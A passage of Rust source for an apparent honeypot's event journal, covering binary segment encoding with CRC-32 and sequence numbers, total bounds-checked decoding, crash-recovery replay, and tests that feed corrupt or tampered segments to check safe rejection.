        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn sync_makes_records_readable_while_open() {
        let dir = temp_dir("sync");
        let writer = JournalWriter::open(tiny_config(&dir)).expect("open");
        for i in 0..5 {
            writer.append(&ev(i));
        }
        writer.sync().expect("sync");
        let (store, recovered) = recover_full_store(&dir).expect("recover");
        assert_eq!(store.len(), 5);
        assert!(recovered.error.is_none());
        drop(writer);
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn in_memory_splice_is_detected_as_sequence_gap() {
        let events: Vec<Event> = (0..8).map(ev).collect();
        let seg_a = encode::encode_segment(0, &events[..4]);
        let seg_b = encode::encode_segment(4, &events[4..]);
        // duplicate segment A: replay must not yield events twice
        let (got, stats) = recover_events(vec![seg_a.clone(), seg_a.clone(), seg_b.clone()]);
        assert_eq!(got, events[..4].to_vec());
        assert!(matches!(
            stats.error.as_ref().map(|e| &e.kind),
            Some(JournalErrorKind::SequenceGap { .. })
        ));
        // dropped segment: same story
        let (got, stats) = recover_events(vec![seg_b]);
        assert!(got.is_empty());
        assert!(stats.error.is_some());
        // clean pair replays fully
        let (got, stats) = recover_events(vec![seg_a, encode::encode_segment(4, &events[4..])]);
        assert_eq!(got, events);
        assert!(stats.is_clean());
    }

    #[test]
    fn oversized_length_prefix_is_rejected_not_allocated() {
        let events: Vec<Event> = (0..2).map(ev).collect();
        let mut seg = encode::encode_segment(0, &events);
        // splice a frame that claims a 1 GiB body
        seg.truncate(encode::HEADER_LEN);
        encode::put_varint(&mut seg, 1 << 30);
        seg.extend_from_slice(&[0u8; 8]);
        let (got, stats) = recover_events(vec![seg]);
        assert!(got.is_empty());
        assert!(matches!(
            stats.error.as_ref().map(|e| &e.kind),
            Some(JournalErrorKind::OversizedRecord { .. })
        ));
    }

    #[test]
    fn store_mirrors_appends_through_the_choke_point() {
        let dir = temp_dir("store");
        let store = EventStore::new();
        // drop every fourth append before it reaches store or journal
        let n = AtomicU64::new(0);
        store.set_fault_hook(move |_| n.fetch_add(1, Ordering::Relaxed) % 4 == 3);
        store.with_journal(JournalWriter::open(tiny_config(&dir)).expect("open"));
        for i in 0..20 {
            store.log(ev(i));
        }
        store.log_many((20..24).map(ev));
        store.journal_sync().expect("sync");
        let stats = store.close_journal().expect("close").expect("attached");
        assert_eq!(stats.records, 18, "6 of 24 appends fault-dropped");

        let (replayed, recovered) = recover_full_store(&dir).expect("recover");
        assert!(recovered.is_clean(), "{}", recovered.summary());
        assert!(
            replayed.events_eq(&store),
            "journal replay must equal the in-memory store"
        );
        // double close is an explicit no-op
        assert!(store.close_journal().expect("idempotent").is_none());
        let _ = fs::remove_dir_all(&dir);
    }

    #[test]
    fn empty_directory_replays_empty() {
        let dir = temp_dir("empty");
        let (store, recovered) = recover_full_store(&dir).expect("recover");
        assert!(store.is_empty());
        assert!(recovered.is_clean());
        assert_eq!(recovered.segments_scanned, 0);
        let _ = fs::remove_dir_all(&dir);
    }
}
