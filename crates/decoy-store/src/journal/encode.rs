//! Binary encoding of journal segments and records (format version 1).
//!
//! A segment file is a fixed 16-byte header followed by a run of record
//! frames:
//!
//! ```text
//! header  := magic "DCYJ" | version u16 LE | flags u16 LE | first_seq u64 LE
//! frame   := varint(body_len) | body | crc32(body) u32 LE
//! body    := varint(seq) | payload
//! payload := the Event encoding below
//! ```
//!
//! `seq` is the global record sequence number, starting at 0 for the first
//! record of the journal and increasing by exactly one per record across
//! segment boundaries; `first_seq` in the header repeats the sequence number
//! the segment starts at. Together they make splices, duplicated segments,
//! reordered segments, and dropped segments detectable as hard corruption
//! instead of silently replaying events out of order.
//!
//! The CRC is a from-scratch, std-only CRC-32 (IEEE 802.3, reflected,
//! polynomial `0xEDB88320`) over `body` only: a flipped bit anywhere in the
//! sequence number or payload fails the check, and a tampered length prefix
//! shifts which bytes are read as `body`/`crc` so it fails too.
//!
//! Event payload encoding (all integers varint unless noted):
//!
//! ```text
//! ts | dbms u8 | level u8 | config u8 | instance | ip_tag u8 (4|6) |
//! ip bytes (4|16) | session | kind_tag u8 | kind fields
//! ```
//!
//! Strings are `varint(len) | UTF-8 bytes`. Kind tags and their fields:
//! `0` Connect, `1` Disconnect, `2` LoginAttempt (username, password,
//! success u8), `3` Command (action, raw), `4` Payload (len, has_recognized
//! u8, [recognized], preview), `5` Malformed (detail), `6` Health (state u8,
//! restarts, detail).
//!
//! The decoding side lives in [`super::decode`], which is registered in the
//! `decoy-xtask` panic-freedom lint: it parses potentially corrupt on-disk
//! bytes and must be total.

use crate::events::{ConfigVariant, Dbms, Event, EventKind, InteractionLevel};
use decoy_net::supervisor::HealthState;
use std::net::IpAddr;

/// Segment file magic.
pub const MAGIC: [u8; 4] = *b"DCYJ";
/// Current format version.
pub const VERSION: u16 = 1;
/// Byte length of the segment header.
pub const HEADER_LEN: usize = 16;
/// Upper bound on one record body. Events are small (strings are bounded by
/// the listeners' session byte budgets); anything larger on disk is
/// corruption, and the cap keeps a tampered length prefix from driving a
/// giant allocation during recovery.
pub const MAX_RECORD_LEN: usize = 1 << 20;

/// The CRC-32 lookup table (reflected, polynomial `0xEDB88320`), generated
/// at compile time.
const CRC_TABLE: [u32; 256] = crc_table();

const fn crc_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut n = 0usize;
    while n < 256 {
        let mut crc = n as u32;
        let mut bit = 0;
        while bit < 8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
            bit += 1;
        }
        table[n] = crc;
        n += 1;
    }
    table
}

/// CRC-32 (IEEE 802.3) of `bytes`.
pub fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = u32::MAX;
    for &b in bytes {
        let idx = ((crc ^ u32::from(b)) & 0xFF) as usize;
        crc = (crc >> 8) ^ CRC_TABLE[idx];
    }
    !crc
}

/// Append `v` as an LEB128 varint (1–10 bytes).
pub fn put_varint(out: &mut Vec<u8>, mut v: u64) {
    loop {
        let byte = (v & 0x7F) as u8;
        v >>= 7;
        if v == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

fn put_str(out: &mut Vec<u8>, s: &str) {
    put_varint(out, s.len() as u64);
    out.extend_from_slice(s.as_bytes());
}

/// Stable wire tag of a DBMS.
pub fn dbms_tag(dbms: Dbms) -> u8 {
    match dbms {
        Dbms::MySql => 0,
        Dbms::Postgres => 1,
        Dbms::Redis => 2,
        Dbms::Mssql => 3,
        Dbms::Elastic => 4,
        Dbms::MongoDb => 5,
        Dbms::CouchDb => 6,
    }
}

/// Stable wire tag of an interaction level.
pub fn level_tag(level: InteractionLevel) -> u8 {
    match level {
        InteractionLevel::Low => 0,
        InteractionLevel::Medium => 1,
        InteractionLevel::High => 2,
    }
}

/// Stable wire tag of a configuration variant.
pub fn config_tag(config: ConfigVariant) -> u8 {
    match config {
        ConfigVariant::Default => 0,
        ConfigVariant::FakeData => 1,
        ConfigVariant::LoginDisabled => 2,
        ConfigVariant::MultiService => 3,
        ConfigVariant::SingleService => 4,
    }
}

/// Stable wire tag of a health state.
pub fn health_tag(state: HealthState) -> u8 {
    match state {
        HealthState::Healthy => 0,
        HealthState::Degraded => 1,
        HealthState::Down => 2,
    }
}

fn put_event(out: &mut Vec<u8>, event: &Event) {
    put_varint(out, event.ts.as_millis());
    out.push(dbms_tag(event.honeypot.dbms));
    out.push(level_tag(event.honeypot.level));
    out.push(config_tag(event.honeypot.config));
    put_varint(out, u64::from(event.honeypot.instance));
    match event.src {
        IpAddr::V4(ip) => {
            out.push(4);
            out.extend_from_slice(&ip.octets());
        }
        IpAddr::V6(ip) => {
            out.push(6);
            out.extend_from_slice(&ip.octets());
        }
    }
    put_varint(out, event.session);
    match &event.kind {
        EventKind::Connect => out.push(0),
        EventKind::Disconnect => out.push(1),
        EventKind::LoginAttempt {
            username,
            password,
            success,
        } => {
            out.push(2);
            put_str(out, username);
            put_str(out, password);
            out.push(u8::from(*success));
        }
        EventKind::Command { action, raw } => {
            out.push(3);
            put_str(out, action);
            put_str(out, raw);
        }
        EventKind::Payload {
            len,
            recognized,
            preview,
        } => {
            out.push(4);
            put_varint(out, *len as u64);
            match recognized {
                Some(label) => {
                    out.push(1);
                    put_str(out, label);
                }
                None => out.push(0),
            }
            put_str(out, preview);
        }
        EventKind::Malformed { detail } => {
            out.push(5);
            put_str(out, detail);
        }
        EventKind::Health {
            state,
            restarts,
            detail,
        } => {
            out.push(6);
            out.push(health_tag(*state));
            put_varint(out, u64::from(*restarts));
            put_str(out, detail);
        }
    }
}

/// Append the 16-byte segment header for a segment starting at `first_seq`.
pub fn put_header(out: &mut Vec<u8>, first_seq: u64) {
    out.extend_from_slice(&MAGIC);
    out.extend_from_slice(&VERSION.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes()); // flags, reserved
    out.extend_from_slice(&first_seq.to_le_bytes());
}

/// Append one complete record frame for `event` at sequence `seq`.
pub fn put_record(out: &mut Vec<u8>, seq: u64, event: &Event) {
    let mut body = Vec::with_capacity(64);
    put_varint(&mut body, seq);
    put_event(&mut body, event);
    put_varint(out, body.len() as u64);
    out.extend_from_slice(&body);
    out.extend_from_slice(&crc32(&body).to_le_bytes());
}

/// Encode a complete standalone segment: header plus one frame per event,
/// sequence numbers starting at `first_seq`. This is what `JournalWriter`
/// produces incrementally; tests and the fuzz campaign use it to build
/// corpora without touching the filesystem.
pub fn encode_segment(first_seq: u64, events: &[Event]) -> Vec<u8> {
    let mut out = Vec::with_capacity(HEADER_LEN + events.len() * 64);
    put_header(&mut out, first_seq);
    for (i, event) in events.iter().enumerate() {
        put_record(&mut out, first_seq.saturating_add(i as u64), event);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crc32_matches_known_vectors() {
        // Standard check value for CRC-32/ISO-HDLC.
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
        assert_eq!(crc32(b"a"), 0xE8B7_BE43);
    }

    #[test]
    fn varint_boundaries() {
        for (v, len) in [
            (0u64, 1usize),
            (0x7F, 1),
            (0x80, 2),
            (0x3FFF, 2),
            (0x4000, 3),
            (u64::MAX, 10),
        ] {
            let mut out = Vec::new();
            put_varint(&mut out, v);
            assert_eq!(out.len(), len, "varint({v})");
        }
    }

    #[test]
    fn header_shape() {
        let mut out = Vec::new();
        put_header(&mut out, 0x0102_0304_0506_0708);
        assert_eq!(out.len(), HEADER_LEN);
        assert_eq!(&out[..4], b"DCYJ");
        assert_eq!(u16::from_le_bytes([out[4], out[5]]), VERSION);
    }
}
