//! Total decoding and crash recovery for journal segments.
//!
//! Everything in this file parses potentially corrupt on-disk bytes, so it
//! is registered in the `decoy-xtask` panic-freedom lint (`ENFORCED_FILES`)
//! and obeys the byte-path rules: every read is bounds-checked, every
//! conversion is fallible, and no input can panic the process. Recovery is
//! *total*: for any byte sequence, [`Replay`] yields a (possibly empty)
//! prefix of the events that were journaled, plus [`RecoveryStats`]
//! describing what was kept, dropped, and truncated.
//!
//! The prefix guarantee leans on the record sequence numbers of the format
//! (see [`super::encode`]): a splice, duplicated segment, reordered segment,
//! or dropped segment produces a sequence discontinuity, which ends the
//! replay at the last contiguous record instead of replaying out-of-order
//! survivors.

// decoy-hot-path: file -- recovery replay touches every committed frame

use super::encode::{crc32, HEADER_LEN, MAGIC, MAX_RECORD_LEN, VERSION};
use crate::events::{ConfigVariant, Dbms, Event, EventKind, HoneypotId, InteractionLevel};
use decoy_net::supervisor::HealthState;
use decoy_net::time::Timestamp;
use std::fmt;
use std::net::IpAddr;

/// What went wrong at one spot in a journal.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JournalErrorKind {
    /// A segment could not be read from disk.
    Io {
        /// The rendered I/O error.
        message: String,
    },
    /// The segment is shorter than its fixed header.
    HeaderTruncated {
        /// Bytes actually present.
        available: usize,
    },
    /// The segment does not start with the `DCYJ` magic.
    BadMagic {
        /// The four bytes found instead.
        found: [u8; 4],
    },
    /// The segment declares a format version this build does not read.
    UnsupportedVersion {
        /// Version found in the header.
        found: u16,
    },
    /// A record frame runs past the end of a non-final segment. (In the
    /// final segment this is an expected torn tail and is truncated
    /// silently rather than reported.)
    TornRecord {
        /// Bytes the frame needed.
        needed: usize,
        /// Bytes actually available.
        available: usize,
    },
    /// A record declares a body longer than [`MAX_RECORD_LEN`].
    OversizedRecord {
        /// Declared body length.
        len: u64,
    },
    /// A varint ran over 64 bits or past its buffer.
    BadVarint,
    /// The stored CRC does not match the record body.
    CrcMismatch {
        /// CRC stored on disk.
        stored: u32,
        /// CRC computed over the body read.
        computed: u32,
    },
    /// A record (or segment header) carries the wrong sequence number —
    /// evidence of a splice, reorder, or missing data.
    SequenceGap {
        /// Sequence number replay expected next.
        expected: u64,
        /// Sequence number found.
        found: u64,
    },
    /// An enum tag byte has no meaning in this format version.
    BadTag {
        /// Which field carried the tag.
        what: &'static str,
        /// The byte found.
        found: u8,
    },
    /// A string field is not valid UTF-8.
    BadUtf8 {
        /// Which field failed validation.
        what: &'static str,
    },
    /// An integer field does not fit its domain type.
    ValueOutOfRange {
        /// Which field overflowed.
        what: &'static str,
    },
    /// A record body was longer than its decoded payload.
    TrailingBytes {
        /// Unconsumed byte count.
        count: usize,
    },
}

impl JournalErrorKind {
    /// Short machine-friendly label for the kind.
    pub fn label(&self) -> &'static str {
        match self {
            JournalErrorKind::Io { .. } => "io",
            JournalErrorKind::HeaderTruncated { .. } => "header-truncated",
            JournalErrorKind::BadMagic { .. } => "bad-magic",
            JournalErrorKind::UnsupportedVersion { .. } => "unsupported-version",
            JournalErrorKind::TornRecord { .. } => "torn-record",
            JournalErrorKind::OversizedRecord { .. } => "oversized-record",
            JournalErrorKind::BadVarint => "bad-varint",
            JournalErrorKind::CrcMismatch { .. } => "crc-mismatch",
            JournalErrorKind::SequenceGap { .. } => "sequence-gap",
            JournalErrorKind::BadTag { .. } => "bad-tag",
            JournalErrorKind::BadUtf8 { .. } => "bad-utf8",
            JournalErrorKind::ValueOutOfRange { .. } => "value-out-of-range",
            JournalErrorKind::TrailingBytes { .. } => "trailing-bytes",
        }
    }
}

/// A structured corruption report: which segment, at which byte offset,
/// what kind of damage.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JournalError {
    /// Zero-based segment index (position in replay order).
    pub segment: u32,
    /// Byte offset within that segment where the damage was detected.
    pub offset: usize,
    /// What was wrong.
    pub kind: JournalErrorKind,
}

impl fmt::Display for JournalError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "journal segment {} offset {}: {} ({:?})",
            self.segment,
            self.offset,
            self.kind.label(),
            self.kind
        )
    }
}

impl std::error::Error for JournalError {}

/// What a finished (or halted) replay saw.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RecoveryStats {
    /// Records decoded and yielded, in order, from sequence 0.
    pub records_kept: u64,
    /// CRC-valid records found *after* the first corruption — data that
    /// exists on disk but cannot be replayed without breaking order.
    pub records_dropped: u64,
    /// Bytes that were neither replayed nor countable as whole records:
    /// torn tails, corrupt record bodies, unreadable segment remainders.
    pub bytes_truncated: u64,
    /// Segments examined (including ones visited only by the drop scan).
    pub segments_scanned: u32,
    /// The first corruption encountered, if any. `None` means the journal
    /// replayed cleanly end-to-end (a torn tail on the final segment — the
    /// normal crash shape — is truncated without being counted an error).
    pub error: Option<JournalError>,
}

impl RecoveryStats {
    /// True when every byte of the journal was accounted for as a kept
    /// record: no corruption and no torn tail.
    pub fn is_clean(&self) -> bool {
        self.error.is_none() && self.records_dropped == 0 && self.bytes_truncated == 0
    }

    /// One-line human summary. Stats implement [`fmt::Display`], so callers
    /// that only ever log on the error path can defer rendering entirely
    /// (`{stats}` in a format string) instead of building a `String` per
    /// recovery.
    pub fn summary(&self) -> String {
        self.to_string()
    }
}

impl fmt::Display for RecoveryStats {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "kept {} records over {} segments; dropped {}, truncated {} bytes",
            self.records_kept, self.segments_scanned, self.records_dropped, self.bytes_truncated,
        )?;
        if let Some(e) = &self.error {
            write!(f, "; first error: {e}")?;
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------
// Bounds-checked primitives
// ---------------------------------------------------------------------------

/// Forward-only bounds-checked reader over one segment's bytes.
struct Cur<'a> {
    buf: &'a [u8],
    pos: usize,
}

/// Why a varint failed to decode.
enum VarintFail {
    /// The buffer ended mid-varint.
    Truncated,
    /// More than 64 bits of payload.
    Malformed,
}

impl<'a> Cur<'a> {
    fn new(buf: &'a [u8], pos: usize) -> Self {
        Cur { buf, pos }
    }

    fn remaining(&self) -> usize {
        self.buf.len().saturating_sub(self.pos)
    }

    fn take(&mut self, n: usize) -> Option<&'a [u8]> {
        let end = self.pos.checked_add(n)?;
        let s = self.buf.get(self.pos..end)?;
        self.pos = end;
        Some(s)
    }

    fn u8(&mut self) -> Option<u8> {
        let b = self.buf.get(self.pos).copied()?;
        self.pos = self.pos.saturating_add(1);
        Some(b)
    }

    fn varint(&mut self) -> Result<u64, VarintFail> {
        let mut value = 0u64;
        let mut shift = 0u32;
        loop {
            let Some(b) = self.u8() else {
                return Err(VarintFail::Truncated);
            };
            let low = u64::from(b & 0x7F);
            if shift >= 64 || (shift == 63 && low > 1) {
                return Err(VarintFail::Malformed);
            }
            value |= low << shift;
            if b & 0x80 == 0 {
                return Ok(value);
            }
            shift = shift.saturating_add(7);
        }
    }
}

// ---------------------------------------------------------------------------
// Header and frame parsing
// ---------------------------------------------------------------------------

/// Parse a segment header, returning the sequence number of the segment's
/// first record.
pub(crate) fn parse_header(buf: &[u8]) -> Result<u64, JournalErrorKind> {
    if buf.len() < HEADER_LEN {
        return Err(JournalErrorKind::HeaderTruncated {
            available: buf.len(),
        });
    }
    let mut cur = Cur::new(buf, 0);
    let magic = cur.take(4).unwrap_or_default();
    if magic != MAGIC {
        let mut found = [0u8; 4];
        for (slot, b) in found.iter_mut().zip(magic) {
            *slot = *b;
        }
        return Err(JournalErrorKind::BadMagic { found });
    }
    let version = read_u16_le(&mut cur).unwrap_or(0);
    if version != VERSION {
        return Err(JournalErrorKind::UnsupportedVersion { found: version });
    }
    let _flags = read_u16_le(&mut cur);
    match read_u64_le(&mut cur) {
        Some(first_seq) => Ok(first_seq),
        None => Err(JournalErrorKind::HeaderTruncated {
            available: buf.len(),
        }),
    }
}

fn read_u16_le(cur: &mut Cur<'_>) -> Option<u16> {
    cur.take(2)?
        .first_chunk::<2>()
        .map(|a| u16::from_le_bytes(*a))
}

fn read_u32_le(cur: &mut Cur<'_>) -> Option<u32> {
    cur.take(4)?
        .first_chunk::<4>()
        .map(|a| u32::from_le_bytes(*a))
}

fn read_u64_le(cur: &mut Cur<'_>) -> Option<u64> {
    cur.take(8)?
        .first_chunk::<8>()
        .map(|a| u64::from_le_bytes(*a))
}

/// Outcome of reading one record frame at a given offset.
pub(crate) enum FrameOutcome {
    /// The segment ended exactly at the frame boundary.
    End,
    /// A complete, CRC-valid, in-sequence record.
    Record {
        /// The decoded event.
        event: Event,
        /// Offset of the byte after the frame.
        next_pos: usize,
    },
    /// The segment ends mid-frame (torn tail if this is the final segment).
    Torn {
        /// Bytes the frame needed from its start.
        needed: usize,
        /// Bytes available from its start.
        available: usize,
    },
    /// Structural or semantic damage.
    Corrupt(JournalErrorKind),
}

/// Read the frame starting at `start`, expecting sequence `expected_seq`.
pub(crate) fn read_frame(buf: &[u8], start: usize, expected_seq: u64) -> FrameOutcome {
    let mut cur = Cur::new(buf, start);
    if cur.remaining() == 0 {
        return FrameOutcome::End;
    }
    let body_len = match cur.varint() {
        Ok(v) => v,
        Err(VarintFail::Truncated) => {
            return FrameOutcome::Torn {
                needed: cur.remaining().saturating_add(1),
                available: cur.remaining(),
            }
        }
        Err(VarintFail::Malformed) => return FrameOutcome::Corrupt(JournalErrorKind::BadVarint),
    };
    if body_len > MAX_RECORD_LEN as u64 {
        return FrameOutcome::Corrupt(JournalErrorKind::OversizedRecord { len: body_len });
    }
    let Ok(body_len) = usize::try_from(body_len) else {
        return FrameOutcome::Corrupt(JournalErrorKind::OversizedRecord { len: body_len });
    };
    let needed = body_len.saturating_add(4);
    if cur.remaining() < needed {
        return FrameOutcome::Torn {
            needed,
            available: cur.remaining(),
        };
    }
    let Some(body) = cur.take(body_len) else {
        return FrameOutcome::Torn {
            needed,
            available: cur.remaining(),
        };
    };
    let Some(stored) = read_u32_le(&mut cur) else {
        return FrameOutcome::Torn {
            needed: 4,
            available: cur.remaining(),
        };
    };
    let computed = crc32(body);
    if stored != computed {
        return FrameOutcome::Corrupt(JournalErrorKind::CrcMismatch { stored, computed });
    }
    // The body is authenticated; decode it.
    let mut body_cur = Cur::new(body, 0);
    let seq = match body_cur.varint() {
        Ok(v) => v,
        Err(_) => return FrameOutcome::Corrupt(JournalErrorKind::BadVarint),
    };
    if seq != expected_seq {
        return FrameOutcome::Corrupt(JournalErrorKind::SequenceGap {
            expected: expected_seq,
            found: seq,
        });
    }
    match decode_event(&mut body_cur) {
        Ok(event) => {
            let rest = body_cur.remaining();
            if rest != 0 {
                return FrameOutcome::Corrupt(JournalErrorKind::TrailingBytes { count: rest });
            }
            FrameOutcome::Record {
                event,
                next_pos: cur.pos,
            }
        }
        Err(kind) => FrameOutcome::Corrupt(kind),
    }
}

/// Like [`read_frame`] but only checks structure (length + CRC), for the
/// post-corruption drop scan. Returns the next offset on success.
pub(crate) fn check_frame(buf: &[u8], start: usize) -> Result<Option<usize>, ()> {
    let mut cur = Cur::new(buf, start);
    if cur.remaining() == 0 {
        return Ok(None);
    }
    let body_len = cur.varint().map_err(|_| ())?;
    if body_len > MAX_RECORD_LEN as u64 {
        return Err(());
    }
    let body_len = usize::try_from(body_len).map_err(|_| ())?;
    let body = cur.take(body_len).ok_or(())?;
    let stored = read_u32_le(&mut cur).ok_or(())?;
    if stored != crc32(body) {
        return Err(());
    }
    Ok(Some(cur.pos))
}

// ---------------------------------------------------------------------------
// Event payload decoding
// ---------------------------------------------------------------------------

fn read_str(cur: &mut Cur<'_>, what: &'static str) -> Result<String, JournalErrorKind> {
    let len = match cur.varint() {
        Ok(v) => v,
        Err(_) => return Err(JournalErrorKind::BadVarint),
    };
    let Ok(len) = usize::try_from(len) else {
        return Err(JournalErrorKind::ValueOutOfRange { what });
    };
    let Some(bytes) = cur.take(len) else {
        return Err(JournalErrorKind::ValueOutOfRange { what });
    };
    match std::str::from_utf8(bytes) {
        Ok(s) => Ok(s.to_owned()),
        Err(_) => Err(JournalErrorKind::BadUtf8 { what }),
    }
}

fn read_varint(cur: &mut Cur<'_>) -> Result<u64, JournalErrorKind> {
    cur.varint().map_err(|_| JournalErrorKind::BadVarint)
}

fn read_tag(cur: &mut Cur<'_>, what: &'static str) -> Result<u8, JournalErrorKind> {
    cur.u8().ok_or(JournalErrorKind::ValueOutOfRange { what })
}

fn read_bool(cur: &mut Cur<'_>, what: &'static str) -> Result<bool, JournalErrorKind> {
    match read_tag(cur, what)? {
        0 => Ok(false),
        1 => Ok(true),
        found => Err(JournalErrorKind::BadTag { what, found }),
    }
}

fn decode_event(cur: &mut Cur<'_>) -> Result<Event, JournalErrorKind> {
    let ts = Timestamp::from_millis(read_varint(cur)?);
    let dbms = match read_tag(cur, "dbms")? {
        0 => Dbms::MySql,
        1 => Dbms::Postgres,
        2 => Dbms::Redis,
        3 => Dbms::Mssql,
        4 => Dbms::Elastic,
        5 => Dbms::MongoDb,
        6 => Dbms::CouchDb,
        found => {
            return Err(JournalErrorKind::BadTag {
                what: "dbms",
                found,
            })
        }
    };
    let level = match read_tag(cur, "level")? {
        0 => InteractionLevel::Low,
        1 => InteractionLevel::Medium,
        2 => InteractionLevel::High,
        found => {
            return Err(JournalErrorKind::BadTag {
                what: "level",
                found,
            })
        }
    };
    let config = match read_tag(cur, "config")? {
        0 => ConfigVariant::Default,
        1 => ConfigVariant::FakeData,
        2 => ConfigVariant::LoginDisabled,
        3 => ConfigVariant::MultiService,
        4 => ConfigVariant::SingleService,
        found => {
            return Err(JournalErrorKind::BadTag {
                what: "config",
                found,
            })
        }
    };
    let instance = match u16::try_from(read_varint(cur)?) {
        Ok(v) => v,
        Err(_) => return Err(JournalErrorKind::ValueOutOfRange { what: "instance" }),
    };
    let src = match read_tag(cur, "ip")? {
        4 => {
            let Some(octets) = cur.take(4).and_then(|s| s.first_chunk::<4>().copied()) else {
                return Err(JournalErrorKind::ValueOutOfRange { what: "ipv4" });
            };
            IpAddr::from(octets)
        }
        6 => {
            let Some(octets) = cur.take(16).and_then(|s| s.first_chunk::<16>().copied()) else {
                return Err(JournalErrorKind::ValueOutOfRange { what: "ipv6" });
            };
            IpAddr::from(octets)
        }
        found => return Err(JournalErrorKind::BadTag { what: "ip", found }),
    };
    let session = read_varint(cur)?;
    let kind = match read_tag(cur, "kind")? {
        0 => EventKind::Connect,
        1 => EventKind::Disconnect,
        2 => EventKind::LoginAttempt {
            username: read_str(cur, "username")?,
            password: read_str(cur, "password")?,
            success: read_bool(cur, "success")?,
        },
        3 => EventKind::Command {
            action: read_str(cur, "action")?,
            raw: read_str(cur, "raw")?,
        },
        4 => {
            let len = match usize::try_from(read_varint(cur)?) {
                Ok(v) => v,
                Err(_) => {
                    return Err(JournalErrorKind::ValueOutOfRange {
                        what: "payload-len",
                    })
                }
            };
            let recognized = if read_bool(cur, "recognized")? {
                Some(read_str(cur, "recognized")?)
            } else {
                None
            };
            EventKind::Payload {
                len,
                recognized,
                preview: read_str(cur, "preview")?,
            }
        }
        5 => EventKind::Malformed {
            detail: read_str(cur, "detail")?,
        },
        6 => {
            let state = match read_tag(cur, "health-state")? {
                0 => HealthState::Healthy,
                1 => HealthState::Degraded,
                2 => HealthState::Down,
                found => {
                    return Err(JournalErrorKind::BadTag {
                        what: "health-state",
                        found,
                    })
                }
            };
            let restarts = match u32::try_from(read_varint(cur)?) {
                Ok(v) => v,
                Err(_) => return Err(JournalErrorKind::ValueOutOfRange { what: "restarts" }),
            };
            EventKind::Health {
                state,
                restarts,
                detail: read_str(cur, "detail")?,
            }
        }
        found => {
            return Err(JournalErrorKind::BadTag {
                what: "kind",
                found,
            })
        }
    };
    Ok(Event {
        ts,
        honeypot: HoneypotId {
            dbms,
            level,
            config,
            instance,
        },
        src,
        session,
        kind,
    })
}

// ---------------------------------------------------------------------------
// Replay driver
// ---------------------------------------------------------------------------

/// Streaming replay over a sequence of segment byte buffers.
///
/// Yields decoded events in journal order, one segment in memory at a time
/// (memory is bounded by the rotation threshold, not the dataset). The
/// iterator ends at the first corruption; afterwards [`Replay::stats`] (or
/// [`Replay::finish`]) reports what happened, including a drop scan over
/// the segments that were never replayed.
///
/// The segment source must be an [`ExactSizeIterator`] so a torn tail on
/// the *final* segment — the expected crash shape — can be distinguished
/// from truncation in the middle of the journal, which is corruption.
pub struct Replay<I>
where
    I: ExactSizeIterator<Item = std::io::Result<Vec<u8>>>,
{
    segments: I,
    /// The segment being replayed: bytes, read position, segment index.
    current: Option<(Vec<u8>, usize)>,
    next_segment: u32,
    next_seq: u64,
    stats: RecoveryStats,
    halted: bool,
}

impl<I> Replay<I>
where
    I: ExactSizeIterator<Item = std::io::Result<Vec<u8>>>,
{
    /// A replay over `segments`, in order.
    pub fn new(segments: I) -> Self {
        Replay {
            segments,
            current: None,
            next_segment: 0,
            next_seq: 0,
            stats: RecoveryStats::default(),
            halted: false,
        }
    }

    /// Stats so far; complete once the iterator has returned `None`.
    pub fn stats(&self) -> &RecoveryStats {
        &self.stats
    }

    /// Drain any remaining events (discarding them) and return the final
    /// stats. Prefer consuming the iterator first and then calling this.
    pub fn finish(mut self) -> RecoveryStats {
        for _ in self.by_ref() {}
        self.stats
    }

    /// The index of the segment currently being replayed.
    fn segment_index(&self) -> u32 {
        self.next_segment.saturating_sub(1)
    }

    /// Record the first error, run the drop scan, and halt.
    fn halt_with_error(&mut self, offset: usize, kind: JournalErrorKind, scan_from: usize) {
        if self.stats.error.is_none() {
            self.stats.error = Some(JournalError {
                segment: self.segment_index(),
                offset,
                kind,
            });
        }
        // Drop scan: structurally valid records beyond this point exist but
        // cannot be replayed in order. Count them so operators know what
        // was lost, without yielding them.
        if let Some((buf, _)) = self.current.take() {
            self.drop_scan_segment(&buf, scan_from);
        }
        while let Some(next) = self.segments.next() {
            self.stats.segments_scanned = self.stats.segments_scanned.saturating_add(1);
            match next {
                Ok(buf) => match parse_header(&buf) {
                    Ok(_) => self.drop_scan_segment(&buf, HEADER_LEN),
                    Err(_) => {
                        self.stats.bytes_truncated =
                            self.stats.bytes_truncated.saturating_add(buf.len() as u64);
                    }
                },
                Err(_) => {}
            }
        }
        self.halted = true;
    }

    /// Count CRC-valid frames from `start`; charge the rest to truncation.
    fn drop_scan_segment(&mut self, buf: &[u8], start: usize) {
        let mut pos = start;
        loop {
            match check_frame(buf, pos) {
                Ok(Some(next)) => {
                    self.stats.records_dropped = self.stats.records_dropped.saturating_add(1);
                    pos = next;
                }
                Ok(None) => return,
                Err(()) => {
                    self.stats.bytes_truncated = self
                        .stats
                        .bytes_truncated
                        .saturating_add(buf.len().saturating_sub(pos) as u64);
                    return;
                }
            }
        }
    }

    /// Handle a torn frame at `start`: silent truncation on the final
    /// segment, a hard error elsewhere.
    fn handle_torn(&mut self, start: usize, needed: usize, available: usize) {
        let is_final = self.segments.len() == 0;
        let len = self.current.as_ref().map(|(buf, _)| buf.len()).unwrap_or(0);
        self.stats.bytes_truncated = self
            .stats
            .bytes_truncated
            .saturating_add(len.saturating_sub(start) as u64);
        if is_final {
            self.current = None;
            self.halted = true;
        } else {
            // already charged this segment's tail; scan later segments only
            self.current = None;
